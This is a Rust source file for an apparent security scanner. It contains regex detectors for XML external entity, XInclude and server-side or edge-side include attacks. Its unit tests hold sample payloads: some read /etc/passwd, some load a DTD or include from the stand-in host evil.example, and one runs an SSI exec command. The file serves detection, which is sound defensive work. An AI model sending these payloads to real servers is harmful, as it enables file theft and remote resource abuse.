//! Markup that a server interprets: XML external entities and entity expansion (XXE), XInclude,
//! and server-side / edge-side include directives (SSI, ESI).

use std::sync::LazyLock;

use regex::Regex;

use crate::features::{ANGLE, COLON, EXCLAMATION};
use crate::finding::AttackKind;
use crate::scan::{Hit, Subject};

static ENTITY_DECLARATION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<!ENTITY\s+(%\s*)?[\w.:-]+\s+(SYSTEM|PUBLIC)?")
        .expect("static xxe rule compiles")
});

static EXTERNAL_DOCTYPE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)<!DOCTYPE\s+[\w.:-]+\s+(?:SYSTEM|PUBLIC)\s+["']"#)
        .expect("static xxe rule compiles")
});

static XINCLUDE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*[\w-]+:include\b[^>]*\bhref\s*=|http://www\.w3\.org/2001/XInclude")
        .expect("static xxe rule compiles")
});

static SSI_DIRECTIVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif|else|endif)\b")
        .expect("static ssi rule compiles")
});

static ESI_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*esi:(?:include|vars|inline|choose|when|otherwise|try|attempt|except|comment|remove|debug|assign|eval|function)\b")
        .expect("static ssi rule compiles")
});

pub(crate) fn detect_xxe(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    if !subject.features.has(ANGLE) {
        return None;
    }
    if subject.features.has(EXCLAMATION) {
        let mut declarations = 0;
        let mut first_internal = None;
        for captures in ENTITY_DECLARATION.captures_iter(text) {
            let whole = captures.get(0).map_or(0..0, |found| found.range());
            if captures.get(2).is_some() {
                return Some(Hit::new(
                    AttackKind::Xxe,
                    "xxe.external-entity",
                    whole.start,
                    whole.end,
                ));
            }
            declarations += 1;
            if captures.get(1).is_some() || first_internal.is_none() {
                first_internal = Some(whole);
            }
        }
        if let Some(found) = EXTERNAL_DOCTYPE.find(text) {
            return Some(Hit::over(
                AttackKind::Xxe,
                "xxe.external-entity",
                found.range(),
            ));
        }
        if let (Some(whole), true) = (first_internal, declarations >= 1) {
            return Some(Hit::new(
                AttackKind::Xxe,
                "xxe.entity-expansion",
                whole.start,
                whole.end,
            ));
        }
    }
    if !subject.features.has(COLON) {
        return None;
    }
    XINCLUDE
        .find(text)
        .map(|found| Hit::over(AttackKind::Xxe, "xxe.xinclude", found.range()))
}

pub(crate) fn detect_ssi(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    if !subject.features.has(ANGLE) {
        return None;
    }
    if !text.contains("<!--") && !text.contains("esi:") {
        return None;
    }
    if let Some(found) = SSI_DIRECTIVE.find(text) {
        return Some(Hit::over(AttackKind::Ssi, "ssi.directive", found.range()));
    }
    ESI_TAG
        .find(text)
        .map(|found| Hit::over(AttackKind::Ssi, "ssi.esi-tag", found.range()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::check;

    #[test]
    fn external_entities_and_expansion_are_found() {
        check(
            detect_xxe,
            &[
                r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
                r#"<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>"#,
                r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>"#,
                r#"<!DOCTYPE root SYSTEM "http://evil.example/a.dtd"><root/>"#,
                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
            ],
            &[
                "<!DOCTYPE html><html><body>hi</body></html>",
                r#"<?xml version="1.0"?><order><id>7</id></order>"#,
                "entity system public",
            ],
        );
    }

    #[test]
    fn server_side_includes_are_found() {
        check(
            detect_ssi,
            &[
                r#"<!--#exec cmd="ls" -->"#,
                r#"<!--#include virtual="/etc/passwd" -->"#,
                "&lt;!--#echo var=&quot;DATE_LOCAL&quot; --&gt;",
                r#"<esi:include src="http://evil.example/"/>"#,
            ],
            &["<!-- a comment -->", "#include <stdio.h>", "email me #1"],
        );
    }
}
